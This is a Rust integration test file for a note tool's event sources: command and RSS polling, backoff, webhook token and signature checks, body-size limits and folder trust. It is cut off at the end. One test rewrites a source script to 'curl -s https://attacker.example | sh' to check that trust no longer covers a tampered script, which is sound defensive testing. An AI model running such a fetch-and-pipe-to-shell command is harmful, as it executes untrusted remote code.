//! Sources end to end through the binary: a `command` source's items become events that the
//! usual routing delivers to the matching note under `watch`; what a source saw is kept across
//! processes (each `livenote sources poll` is one); backfill; a failing source backs off with
//! its error in `livenote sources` without holding the others up; a webhook with and without
//! its token, oversized and malformed bodies; an untrusted folder's sources never poll, and a
//! webhook of the user's own config listens for a trusted folder only (the rest of issue 31's
//! trust line is in `sources_trust.rs`).

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::time::Duration;

use livenote::events;
use serde_json::{Value, json};

use common::{Workspace, command_config, files, tempdir, wait_until, write};

/// Prints the run's event context, so the note shows what reached it.
const ECHO_CONTEXT: &str = r#"printf '%s\n' "trigger: $LIVENOTE_TRIGGER" "$LIVENOTE_CONTEXT""#;

fn note(title: &str, criteria: &str) -> String {
    format!(
        "---\nlive:\n  objective: Keep {title} current\n  triggers:\n    eventMatchCriteria: \"{criteria}\"\n---\n# {title}\n\nold body\n"
    )
}

/// A workspace whose notes run `ECHO_CONTEXT`, with `sources` appended to its config and a
/// note about widget releases (`w.md`).
fn workspace(sources: &str) -> Workspace {
    let dir = tempdir();
    write(&dir.path().join("w.md"), &note("Widget", "widget release"));
    Workspace::in_dir(dir, &format!("{}\n{sources}", command_config(ECHO_CONTEXT)))
}

/// A `command` source printing the file `items.jsonl` of the workspace.
fn cat_source(name: &str, more: &str) -> String {
    format!("[sources.{name}]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"cat items.jsonl\"]\n{more}")
}

fn set_items(ws: &Workspace, lines: &[Value]) {
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    write(&ws.root.join("items.jsonl"), &text);
}

/// `livenote ARGS`: (exit code, stdout, stderr).
fn run(ws: &Workspace, args: &[&str]) -> (i32, String, String) {
    let out = ws.livenote(args).output().unwrap_or_else(|e| panic!("{e}"));
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// `livenote sources --format json`, by name.
fn sources_json(ws: &Workspace) -> Value {
    let (code, out, err) = run(ws, &["sources", "--format", "json"]);
    assert_eq!(code, 0, "{err}");
    let rows: Vec<Value> = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"));
    Value::Object(rows.into_iter().map(|r| (r["name"].as_str().unwrap_or_default().to_owned(), r)).collect())
}

fn pending(root: &Path) -> Vec<Value> {
    files(&events::pending_dir(root))
        .iter()
        .map(|f| {
            let text = std::fs::read_to_string(events::pending_dir(root).join(f)).unwrap_or_default();
            serde_json::from_str(&text).unwrap_or(Value::Null)
        })
        .collect()
}

fn widget(ws: &Workspace) -> String {
    std::fs::read_to_string(ws.root.join("w.md")).unwrap_or_default()
}

#[test]
fn a_command_sources_new_item_reaches_the_matching_note_under_watch() {
    let ws = workspace(&cat_source("releases", ""));
    set_items(&ws, &[json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}})]);
    ws.set_clock("2026-05-08T15:00:00Z");
    let mut w = ws.watch_clock();
    // The first poll records what exists and queues nothing (backfill is off).
    w.wait_for("source releases: first poll recorded 1 item as seen");
    set_items(
        &ws,
        &[
            json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}}),
            json!({"id": "1.3", "payload": {"title": "Widget release 1.3 is out"}}),
        ],
    );
    // Not due before `every` (5 minutes for a command).
    ws.set_clock("2026-05-08T15:05:01Z");
    wait_until("the new release in the note", 30, || widget(&ws).contains("Widget release 1.3 is out"));
    wait_until("the event's record", 30, || !files(&events::done_dir(&ws.root)).is_empty());
    let logs = w.stop();
    let text = widget(&ws);
    assert!(text.contains("trigger: event"), "{text}\n{logs:#?}");
    assert!(!text.contains("release 1.2"), "the item that existed before is never sent:\n{text}");
    let done = files(&events::done_dir(&ws.root));
    assert_eq!(done.len(), 1, "{done:?}");
    let record: Value = serde_json::from_str(
        &std::fs::read_to_string(events::done_dir(&ws.root).join(&done[0])).unwrap_or_default(),
    )
    .unwrap_or(Value::Null);
    assert_eq!(record["source"], "releases", "{record}");
    assert_eq!(record["type"], "command.event", "{record}");
    assert_eq!(record["candidateFilePaths"], json!(["w.md"]), "{record}");
    let s = sources_json(&ws);
    assert_eq!(s["releases"]["itemsSeen"], 2, "{s}");
    assert_eq!(s["releases"]["lastPoll"], "2026-05-08T15:05:01Z", "{s}");
    assert_eq!(s["releases"]["nextPoll"], "2026-05-08T15:10:01Z", "{s}");
}

#[test]
fn items_are_queued_once_across_processes_and_again_only_when_changed() {
    let ws = workspace(&cat_source("feed", "backfill = true\n"));
    ws.set_clock("2026-05-08T15:00:00Z");
    let clock = ws.clock().display().to_string();
    let poll = |dry: bool| {
        let mut args = vec!["sources", "poll", "feed", "--clock-file", &clock];
        if dry {
            args.push("--dry-run");
        }
        run(&ws, &args)
    };
    set_items(
        &ws,
        &[json!({"id": "a", "payload": {"title": "First"}}), json!({"id": "b", "payload": "Second"})],
    );
    let (code, out, err) = poll(true);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "would queue command.event First\nwould queue command.event Second\n");
    assert!(pending(&ws.root).is_empty(), "a dry run queues nothing");
    // With backfill, the first poll queues what exists.
    let (code, out, err) = poll(false);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().filter(|l| l.starts_with("queued ")).count(), 2, "{out}");
    // Another process, the same items: nothing new.
    let (code, out, _) = poll(false);
    assert_eq!((code, out.as_str()), (0, ""));
    // An item edited in place is new once; a line printed again unchanged is not.
    set_items(
        &ws,
        &[json!({"id": "a", "payload": {"title": "First, edited"}}), json!({"id": "b", "payload": "Second"})],
    );
    let (_, out, _) = poll(false);
    assert!(out.starts_with("queued ") && out.ends_with("command.event First, edited\n"), "{out}");
    assert_eq!(out.lines().count(), 1, "{out}");
    let (_, out, _) = poll(false);
    assert_eq!(out, "");
    let queued = pending(&ws.root);
    assert_eq!(queued.len(), 3);
    assert!(queued.iter().all(|e| e["source"] == "feed"), "{queued:?}");
    assert_eq!(queued[2]["payload"], json!({"title": "First, edited"}));
    assert_eq!(sources_json(&ws)["feed"]["itemsSeen"], 2);
}

#[test]
fn without_backfill_the_first_poll_records_and_queues_nothing() {
    let ws = workspace(&cat_source("feed", ""));
    set_items(&ws, &[json!({"id": "a", "type": "x.y", "payload": "old news"})]);
    let (code, out, err) = run(&ws, &["sources", "poll", "feed"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out,
        "recorded old news\nfirst poll: 1 item recorded as seen, none queued (set `backfill = true` to queue them)\n"
    );
    assert!(pending(&ws.root).is_empty());
    set_items(
        &ws,
        &[
            json!({"id": "a", "type": "x.y", "payload": "old news"}),
            json!({"id": "b", "type": "x.y", "payload": "news"}),
        ],
    );
    let (_, out, _) = run(&ws, &["sources", "poll", "feed"]);
    assert!(out.starts_with("queued ") && out.ends_with(" x.y news\n"), "the line's own type: {out}");
    assert_eq!(pending(&ws.root).len(), 1);
}

#[test]
fn a_failing_source_backs_off_with_its_error_shown_and_others_still_poll() {
    let failing = "[sources.broken]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"echo 'mailbox gone' >&2; exit 3\"]\n";
    let ws = workspace(&format!("{failing}\n{}", cat_source("good", "backfill = true\n")));
    set_items(&ws, &[json!({"id": "1", "payload": "widget release 2.0"})]);
    ws.set_clock("2026-05-08T15:00:00Z");
    let clock = ws.clock().display().to_string();
    let (code, _, err) = run(&ws, &["sources", "poll", "broken", "--clock-file", &clock]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("mailbox gone"), "{err}");
    let s = sources_json(&ws);
    assert_eq!(s["broken"]["failures"], 1, "{s}");
    assert!(
        s["broken"]["lastError"].as_str().is_some_and(|e| e.contains("exit") && e.contains("mailbox gone")),
        "{s}"
    );
    assert_eq!(s["broken"]["nextPoll"], "2026-05-08T15:01:00Z", "a minute after the first failure: {s}");
    // Under watch: retried when the backoff ends (two minutes after the second failure), and
    // the good source polls meanwhile.
    ws.set_clock("2026-05-08T15:01:00Z");
    let mut w = ws.watch_clock();
    w.wait_for("source good: queued");
    wait_until("the second failure", 30, || sources_json(&ws)["broken"]["failures"] == 2);
    assert_eq!(sources_json(&ws)["broken"]["nextPoll"], "2026-05-08T15:03:00Z");
    wait_until("the good source's event to run", 30, || widget(&ws).contains("widget release 2.0"));
    ws.set_clock("2026-05-08T15:03:00Z");
    wait_until("the third failure", 30, || sources_json(&ws)["broken"]["failures"] == 3);
    let logs = w.stop();
    // Said once per change of error, not at every try.
    let said = logs.iter().filter(|l| l.contains("source broken: poll failed")).count();
    assert_eq!(said, 0, "the error did not change since `sources poll` said it: {logs:#?}");
    let (_, text, _) = run(&ws, &["sources"]);
    let line = text.lines().find(|l| l.starts_with("broken")).unwrap_or_default();
    assert!(
        line.contains("command") && line.contains("2026-05-08T15:07:00Z") && line.contains("mailbox gone"),
        "{text}"
    );
}

/// A team repo on a CI schedule: each `livenote tick` polls the sources that are due, once,
/// and their new items run the matching note in the same tick; a source not due waits; a
/// failing one fails the tick and says why every time (a CI log is all its user reads);
/// `--no-sources` leaves them alone; `--dry-run` lists them and polls nothing.
#[test]
fn a_tick_polls_the_due_sources_and_runs_their_notes_at_once() {
    let failing = "[sources.broken]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"echo 'mailbox gone' >&2; exit 3\"]\n";
    let ws = workspace(&format!("{}\n{failing}", cat_source("releases", "")));
    set_items(&ws, &[json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}})]);
    let clock = ws.clock().display().to_string();
    let tick = |at: &str, more: &[&str]| {
        ws.set_clock(at);
        let mut args = vec!["tick", "--clock-file", &clock];
        args.extend_from_slice(more);
        run(&ws, &args)
    };
    let (code, out, err) = tick("2026-05-08T15:00:00Z", &["--dry-run"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "would poll source broken (command)\nwould poll source releases (command)\n");
    assert!(sources_json(&ws)["releases"]["lastPoll"].is_null(), "a dry run polls nothing");

    // The first poll records what exists (backfill is off); the broken source fails the tick.
    let (code, _, err) = tick("2026-05-08T15:00:00Z", &[]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("source releases: first poll recorded 1 item as seen"), "{err}");
    assert!(err.contains("source broken: poll failed") && err.contains("mailbox gone"), "{err}");
    assert!(err.contains("2 sources polled (1 failed)"), "{err}");
    assert!(pending(&ws.root).is_empty());

    // A new release, but neither source is due yet (`every` 5 min; the backoff 1 min).
    set_items(
        &ws,
        &[
            json!({"id": "1.2", "payload": {"title": "Widget release 1.2"}}),
            json!({"id": "1.3", "payload": {"title": "Widget release 1.3 is out"}}),
        ],
    );
    let (code, _, err) = tick("2026-05-08T15:00:30Z", &[]);
    assert_eq!(code, 0, "{err}");
    assert!(!err.contains("polled"), "nothing was due: {err}");
    assert!(!widget(&ws).contains("1.3"));

    // Both due: the release reaches the note within this tick; the same error is said again.
    let (code, _, err) = tick("2026-05-08T15:05:01Z", &[]);
    assert_eq!(code, 1, "{err}");
    let text = widget(&ws);
    assert!(text.contains("Widget release 1.3 is out") && text.contains("trigger: event"), "{text}\n{err}");
    assert!(!text.contains("release 1.2"), "{text}");
    assert!(err.contains("source broken: poll failed") && err.contains("mailbox gone"), "{err}");
    assert!(err.contains("1 event processed"), "{err}");
    assert_eq!(sources_json(&ws)["releases"]["lastPoll"], "2026-05-08T15:05:01Z");

    // `--no-sources`: the next release waits for a tick that polls.
    set_items(&ws, &[json!({"id": "1.4", "payload": {"title": "Widget release 1.4"}})]);
    let (code, _, err) = tick("2026-05-08T15:30:00Z", &["--no-sources"]);
    assert_eq!(code, 0, "{err}");
    assert!(!widget(&ws).contains("1.4"), "{err}");
    assert_eq!(sources_json(&ws)["releases"]["lastPoll"], "2026-05-08T15:05:01Z");
}

/// A free port on 127.0.0.1 (bound, then released for the watcher to take).
fn free_port() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    l.local_addr().map(|a| a.port()).unwrap_or_else(|e| panic!("{e}"))
}

/// One HTTP/1.1 request; the response's status code and body.
fn request(port: u16, head: &str, body: &[u8]) -> (u16, String) {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap_or_else(|e| panic!("{e}"));
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap_or_else(|e| panic!("{e}"));
    let _ = s.write_all(format!("{head}Host: 127.0.0.1\r\nConnection: close\r\n\r\n").as_bytes());
    // The server may answer (413) before the body is sent: a failed write is its right.
    let _ = s.write_all(body);
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let code = text.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (code, text.split("\r\n\r\n").nth(1).unwrap_or_default().to_owned())
}

fn post(port: u16, headers: &str, body: &[u8]) -> (u16, String) {
    request(port, &format!("POST /hook HTTP/1.1\r\nContent-Length: {}\r\n{headers}", body.len()), body)
}

#[test]
fn a_webhook_takes_requests_with_its_secret_and_refuses_the_rest() {
    let port = free_port();
    let ws = workspace(&format!(
        "[sources.hook]\nkind = \"webhook\"\nlisten = \"127.0.0.1:{port}\"\npath = \"/hook\"\ntoken_env = \"HOOK_TOKEN\"\nsecret_env = \"HOOK_SECRET\"\n"
    ));
    let mut w =
        ws.watch_env(&[], &[("HOOK_TOKEN", "s3cret-token"), ("HOOK_SECRET", "It's a Secret to Everybody")]);
    w.wait_for("source hook: listening on");
    // A second process on the folder finds the port taken: it says so and goes on.
    let mut second = ws.watch_env(&[], &[("HOOK_TOKEN", "s3cret-token")]);
    second.wait_for("source hook: cannot listen on 127.0.0.1:");
    second.stop();
    let json_type = "Content-Type: application/json\r\n";
    let body = br#"{"action": "published", "release": {"name": "widget release 3.0"}}"#;
    assert_eq!(post(port, json_type, body).0, 401, "no token");
    assert_eq!(post(port, &format!("{json_type}Authorization: Bearer wrong\r\n"), body).0, 401);
    let bad_sig =
        "X-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\r\n";
    assert_eq!(post(port, &format!("{json_type}{bad_sig}"), body).0, 401, "a signature of another body");
    let auth = format!("{json_type}Authorization: Bearer s3cret-token\r\n");
    let (code, answer) = post(port, &auth, b"{oops");
    assert_eq!(code, 400, "{answer}");
    let huge = format!("POST /hook HTTP/1.1\r\nContent-Length: {}\r\n{auth}", 2 * 1024 * 1024);
    assert_eq!(request(port, &huge, b"").0, 413);
    let chunk = vec![b'x'; 1024 * 1024 + 10];
    let mut chunked = format!("{:x}\r\n", chunk.len()).into_bytes();
    chunked.extend_from_slice(&chunk);
    chunked.extend_from_slice(b"\r\n0\r\n\r\n");
    let head = format!("POST /hook HTTP/1.1\r\nTransfer-Encoding: chunked\r\n{auth}");
    assert_eq!(request(port, &head, &chunked).0, 413, "a body without a length is bounded too");
    assert_eq!(request(port, "GET /hook HTTP/1.1\r\n", b"").0, 405);
    assert_eq!(request(port, "garbage\r\n", b"").0, 400, "not HTTP: answered, never a crash");
    assert!(pending(&ws.root).is_empty() && files(&events::done_dir(&ws.root)).is_empty());
    // Accepted: with the token, and with GitHub's signature (its documented example).
    let (code, answer) = post(port, &auth, body);
    assert_eq!(code, 202, "{answer}");
    let id = serde_json::from_str::<Value>(&answer).unwrap_or(Value::Null)["id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    let github = "X-Hub-Signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\r\nX-GitHub-Delivery: d-1\r\nContent-Type: text/plain\r\n";
    assert_eq!(post(port, github, b"Hello, World!").0, 202);
    assert_eq!(post(port, github, b"Hello, World!").0, 200, "a redelivery is queued once");
    wait_until("the webhook's event to run", 30, || widget(&ws).contains("widget release 3.0"));
    let done = events::done_dir(&ws.root).join(format!("{id}.json"));
    wait_until("the event's record", 30, || done.exists());
    // The signed one too (routed to no note), and nothing else.
    wait_until("both events done", 30, || files(&events::done_dir(&ws.root)).len() == 2);
    let logs = w.stop();
    assert!(
        !logs.iter().any(|l| l.contains("s3cret-token") || l.contains("Secret to Everybody")),
        "{logs:#?}"
    );
    let record: Value =
        serde_json::from_str(&std::fs::read_to_string(&done).unwrap_or_default()).unwrap_or(Value::Null);
    assert_eq!(record["payload"]["release"]["name"], "widget release 3.0", "JSON kept as JSON: {record}");
    assert_eq!((record["source"].as_str(), record["type"].as_str()), (Some("hook"), Some("webhook.post")));
    assert!(pending(&ws.root).is_empty());
}

/// A webhook of the user's own config listens for a trusted folder only: opening a clone
/// takes no port on its behalf (it would receive another repository's deliveries); trusting the
/// folder starts it, and no longer trusting it stops it (issue 31).
#[test]
fn your_own_webhook_listens_for_a_trusted_folder_only() {
    let port = free_port();
    let ws = workspace("");
    assert_eq!(run(&ws, &["untrust", "."]).0, 0);
    write(
        &ws.data.path().join("config.toml"),
        &format!(
            "[sources.hook]\nkind = \"webhook\"\nlisten = \"127.0.0.1:{port}\"\npath = \"/hook\"\ntoken_env = \"HOOK_TOKEN\"\n"
        ),
    );
    assert_eq!(sources_json(&ws)["hook"]["status"], "untrusted");
    let mut w = ws.watch_env(&[], &[("HOOK_TOKEN", "t0ken")]);
    w.wait_for("source hook: not listening: ");
    assert!(TcpStream::connect(("127.0.0.1", port)).is_err(), "a port taken for an untrusted folder");
    assert_eq!(run(&ws, &["trust", "."]).0, 0);
    w.wait_for("source hook: listening on");
    let auth = "Content-Type: application/json\r\nAuthorization: Bearer t0ken\r\n";
    let (code, answer) = post(port, auth, br#"{"release": "widget release 5.0"}"#);
    assert_eq!(code, 202, "{answer}");
    assert_eq!(run(&ws, &["untrust", "."]).0, 0);
    wait_until("the listener to stop", 30, || TcpStream::connect(("127.0.0.1", port)).is_err());
    w.stop();
}

/// A watched folder with no live note (its events go straight to `done/`) and the webhook
/// `hook` on `port`, its token `t0ken`.
fn hook_workspace(port: u16) -> Workspace {
    let dir = tempdir();
    write(&dir.path().join("plain.md"), "# Plain\n\nnot live\n");
    let hook = format!(
        "[sources.hook]\nkind = \"webhook\"\nlisten = \"127.0.0.1:{port}\"\npath = \"/hook\"\ntoken_env = \"HOOK_TOKEN\"\n"
    );
    Workspace::in_dir(dir, &format!("{}\n{hook}", command_config("true")))
}

/// Every event of the queue, wherever it is (`pending/`, `processing/`, `done/`).
fn queued_anywhere(root: &Path) -> Vec<Value> {
    [events::pending_dir(root), events::processing_dir(root), events::done_dir(root)]
        .iter()
        .flat_map(|dir| {
            files(dir).into_iter().map(move |f| {
                let text = std::fs::read_to_string(dir.join(&f)).unwrap_or_default();
                serde_json::from_str(&text).unwrap_or(Value::Null)
            })
        })
        .collect()
}

/// A burst is queued, not refused: 500 authenticated POSTs, 64 at a time (half of them with a
/// GitHub delivery id, 50 of those sent twice), are each answered 202 — a redelivery 200 —
/// and each is on disk exactly once. Before, requests waited at most a second each for the
/// source's state lock, and 6 to 54 of a burst were answered 503.
#[test]
fn a_burst_of_webhook_requests_is_queued_and_each_kept_once() {
    const N: usize = 500;
    const AGAIN: usize = 50;
    let port = free_port();
    let ws = hook_workspace(port);
    let mut w = ws.watch_env(&[], &[("HOOK_TOKEN", "t0ken")]);
    w.wait_for("source hook: listening on");
    let next = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let senders: Vec<_> = (0..64)
        .map(|_| {
            let next = next.clone();
            std::thread::spawn(move || {
                let mut answers = Vec::new();
                loop {
                    let i = next.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    // The last 50 send deliveries 0, 2, 4 ... again.
                    let n = match i {
                        i if i < N => i,
                        i if i < N + AGAIN => 2 * (i - N),
                        _ => return answers,
                    };
                    let delivery =
                        if n % 2 == 0 { format!("X-GitHub-Delivery: d-{n}\r\n") } else { String::new() };
                    let auth = format!(
                        "Authorization: Bearer t0ken\r\nContent-Type: application/json\r\n{delivery}"
                    );
                    let (code, body) = post(port, &auth, json!({ "n": n }).to_string().as_bytes());
                    answers.push((n, code, body));
                }
            })
        })
        .collect();
    let answers: Vec<(usize, u16, String)> =
        senders.into_iter().flat_map(|t| t.join().unwrap_or_else(|_| panic!("a sender panicked"))).collect();
    let logs = w.stop();
    let refused: Vec<_> = answers.iter().filter(|(_, code, _)| ![200, 202].contains(code)).collect();
    assert!(
        refused.is_empty(),
        "{} refused: {:?}\n{logs:#?}",
        refused.len(),
        &refused[..refused.len().min(5)]
    );
    let accepted = answers.iter().filter(|(_, code, _)| *code == 202).count();
    assert_eq!(accepted, N, "one 202 per event, the redelivery of each of {AGAIN} answered 200");
    // By event id: `watch` was killed, so an event may be caught between its `done/` record
    // and the removal of its claim in `processing/` (recovery drops such a claim).
    let by_id: std::collections::BTreeMap<String, u64> = queued_anywhere(&ws.root)
        .iter()
        .filter_map(|e| Some((e["id"].as_str()?.to_owned(), e["payload"]["n"].as_u64()?)))
        .collect();
    let mut on_disk: Vec<u64> = by_id.into_values().collect();
    on_disk.sort_unstable();
    assert_eq!(on_disk, (0..N as u64).collect::<Vec<_>>(), "each event on disk exactly once");
}

/// 1 MB of control characters as text/plain is under the 1 MiB cap but six as JSON: refused
/// (413) before it is answered, never a 202 for an event the queue would then drop as "larger
/// than 4 MiB". Half as many fit and are processed whole.
#[test]
fn a_webhook_refuses_before_answering_what_the_queue_cannot_take() {
    let port = free_port();
    let ws = hook_workspace(port);
    let mut w = ws.watch_env(&[], &[("HOOK_TOKEN", "t0ken")]);
    w.wait_for("source hook: listening on");
    let auth = "Authorization: Bearer t0ken\r\nContent-Type: text/plain\r\n";
    let (code, answer) = post(port, auth, &vec![1u8; 1_000_000]);
    assert_eq!(code, 413, "{answer}");
    assert!(answer.contains("MiB as JSON"), "{answer}");
    assert!(queued_anywhere(&ws.root).is_empty());
    let (code, answer) = post(port, auth, &vec![1u8; 500_000]);
    assert_eq!(code, 202, "{answer}");
    let done = events::done_dir(&ws.root);
    wait_until("the event processed", 30, || files(&done).len() == 1);
    let logs = w.stop();
    let record = queued_anywhere(&ws.root).pop().unwrap_or(Value::Null);
    assert_eq!(record["payload"].as_str().map(str::len), Some(500_000), "{logs:#?}");
    assert!(record.get("raw").is_none() && !record.to_string().contains("larger than"), "{logs:#?}");
}

#[test]
fn an_untrusted_folders_sources_never_poll() {
    let ws = workspace(
        "[sources.marker]\nkind = \"command\"\ncommand = [\"sh\", \"-c\", \"touch \\\"$LIVENOTE_WORKSPACE/polled\\\"\"]\n",
    );
    let (code, _, err) = run(&ws, &["untrust", "."]);
    assert_eq!(code, 0, "{err}");
    let s = sources_json(&ws);
    assert_eq!(s["marker"]["status"], "untrusted", "{s}");
    assert!(s["marker"]["lastError"].as_str().is_some_and(|e| e.contains("livenote trust")), "{s}");
    let (code, _, err) = run(&ws, &["sources", "poll", "marker"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("which is not used"), "{err}");
    let w = ws.watch(&[]);
    // Trusting it while `watch` runs: its sources start then, and only then.
    assert!(!ws.root.join("polled").exists());
    let (code, _, err) = run(&ws, &["trust", "."]);
    assert_eq!(code, 0, "{err}");
    wait_until("the source to poll once trusted", 30, || ws.root.join("polled").exists());
    w.stop();
}

#[test]
fn bad_source_configuration_is_reported_with_its_place() {
    let ws = workspace(
        "[sources.mail]\nkind = \"imap\"\nhost = \"mail.example.com\"\ntls = \"none\"\nusername = \"me\"\npassword_env = \"P\"\n\n[sources.hook]\nkind = \"webhook\"\nlisten = \"0.0.0.0:8080\"\ntoken_env = \"T\"\n\n[sources.x]\nkind = \"command\"\ncomand = [\"true\"]\n",
    );
    let (code, _, all) = run(&ws, &["sources"]);
    assert_eq!(code, 0, "{all}");
    assert!(
        all.contains(".livenote.toml:11:7: source `mail`") && all.contains("only to a loopback address"),
        "{all}"
    );
    assert!(all.contains("non-loopback address only when your own config"), "{all}");
    assert!(all.contains("unknown key `sources.x.comand` (did you mean `command`?)"), "{all}");
    let s = sources_json(&ws);
    for name in ["mail", "hook", "x"] {
        assert_eq!(s[name]["status"], "broken", "{s}");
    }
}

#[test]
fn trust_covers_the_program_a_source_runs() {
    let dir = tempdir();
    write(&dir.path().join("scripts/poll.sh"), "echo '{\"id\": \"1\", \"payload\": \"x\"}'\n");
    write(&dir.path().join("w.md"), &note("Widget", "widget release"));
    let ws = Workspace::in_dir(
        dir,
        "[sources.script]\nkind = \"command\"\ncommand = [\"sh\", \"scripts/poll.sh\"]\n",
    );
    // Never polled yet: not "polled" (issue 34), its next poll now.
    let s = sources_json(&ws);
    assert_eq!((&s["script"]["status"], &s["script"]["nextPoll"]), (&json!("new"), &json!("now")), "{s}");
    let (code, _, err) = run(&ws, &["sources", "poll", "script"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(sources_json(&ws)["script"]["status"], "polled");
    // A `git pull` that rewrites the script: the folder's trust no longer covers it.
    write(&ws.root.join("scripts/poll.sh"), "curl -s https://attacker.example | sh\n");
    let s = sources_json(&ws);
    assert_eq!(s["script"]["status"], "untrusted", "{s}");
    let (code, _, err) = run(&ws, &["sources", "poll", "script"]);
    assert_eq!(code, 2, "{err}");
}

#[test]
fn sources_poll_on_the_folders_host_alone() {
    let ws =
        workspace(&format!("[scheduler]\nhost = \"nas\"\n\n{}", cat_source("feed", "backfill = true\n")));
    set_items(&ws, &[json!({"id": "1", "payload": "widget release 4.0"})]);
    assert_eq!(sources_json(&ws)["feed"]["status"], "elsewhere");
    let mut laptop = ws.watch_env(&[], &[("LIVENOTE_HOST", "laptop")]);
    laptop.wait_for("sources ");
    let logs = laptop.stop();
    assert!(logs.iter().any(|l| l.contains("polled on nas")), "{logs:#?}");
    assert!(pending(&ws.root).is_empty() && ws.source_state("feed").is_none());
    let nas = ws.watch_env(&[], &[("LIVENOTE_HOST", "nas")]);
    wait_until("the host to poll", 30, || ws.source_state("feed").is_some());
    nas.stop();
}

/// `livenote sources poll` with `--clock-file`: (exit code, stdout, stderr).
fn poll(ws: &Workspace, name: &str, more: &[&str]) -> (i32, String, String) {
    let clock = ws.clock().display().to_string();
    let mut args = vec!["sources", "poll", name, "--clock-file", clock.as_str()];
    args.extend_from_slice(more);
    run(ws, &args)
}

const FEED: &str = r#"<?xml version="1.0"?>
<rss version="2.0"><channel><title>Widget releases</title><link>https://example.org/</link>
<item><guid>r-1.2</guid><title>Widget 1.2</title><link>https://example.org/1.2</link><description>&lt;p&gt;Bug fixes.&lt;/p&gt;</description></item>
ITEMS</channel></rss>
"#;

/// A plain HTTP server on 127.0.0.1 answering every GET with the file at `path` as it is then
/// (a feed's server); its port.
fn serve_file(path: std::path::PathBuf) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
    let port = listener.local_addr().map(|a| a.port()).unwrap_or_else(|e| panic!("{e}"));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                head.push(byte[0]);
            }
            let body = std::fs::read(&path).unwrap_or_default();
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(answer.as_bytes()).and_then(|()| stream.write_all(&body));
        }
    });
    port
}

/// A feed source through the binary, from a server on 127.0.0.1: backfill queues each entry as a
/// `feed.entry` event with its text; a poll queues only an entry that is new, or one edited in
/// place; a malformed feed is the source's error, shown by `livenote sources`.
#[test]
fn a_feed_sources_entries_become_events_once() {
    let ws = workspace("");
    let feed = ws.root.join("feed.xml");
    write(&feed, &FEED.replace("ITEMS", ""));
    let url = format!("http://127.0.0.1:{}/feed.xml", serve_file(feed.clone()));
    let config = std::fs::read_to_string(ws.root.join(".livenote.toml")).unwrap_or_default();
    write(
        &ws.root.join(".livenote.toml"),
        &format!("{config}\n[sources.news]\nkind = \"feed\"\nurl = {url:?}\nbackfill = true\n"),
    );
    assert_eq!(run(&ws, &["trust", "."]).0, 0);
    ws.set_clock("2026-05-08T15:00:00Z");
    let (code, out, err) = poll(&ws, "news", &["--dry-run"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("would queue feed.entry"), "{out}");
    assert!(pending(&ws.root).is_empty());
    let (code, out, err) = poll(&ws, "news", &[]);
    assert_eq!(code, 0, "{out}{err}");
    let queued = pending(&ws.root);
    assert_eq!(queued.len(), 1, "{queued:?}");
    assert_eq!(queued[0]["type"], "feed.entry", "{}", queued[0]);
    assert!(queued[0]["payload"].to_string().contains("Bug fixes."), "{}", queued[0]);
    // Polled again: nothing new. A new entry, and the old one edited in place: two events.
    ws.set_clock("2026-05-08T16:00:00Z");
    poll(&ws, "news", &[]);
    assert_eq!(pending(&ws.root).len(), 1);
    let newer =
        "<item><guid>r-1.3</guid><title>Widget 1.3</title><link>https://example.org/1.3</link></item>";
    write(&feed, &FEED.replace("ITEMS", newer).replace("Bug fixes.", "Bug fixes and a faster start."));
    ws.set_clock("2026-05-08T17:00:00Z");
    let (code, out, err) = poll(&ws, "news", &[]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(pending(&ws.root).len(), 3, "{out}");
    // Malformed: the poll fails and says why; `livenote sources` shows the error.
    write(&feed, "<rss><channel><item>");
    ws.set_clock("2026-05-08T18:00:00Z");
    let (code, _, err) = poll(&ws, "news", &[]);
    assert_eq!(code, 1, "{err}");
    let s = sources_json(&ws);
    assert!(s["news"]["lastError"].as_str().is_some_and(|e| e.contains("feed")), "{s}");
}

/// A calendar source read from a file of the workspace: one digest event of today's and the
/// next days' events in the local zone, and a new one only when an event changed.
#[test]
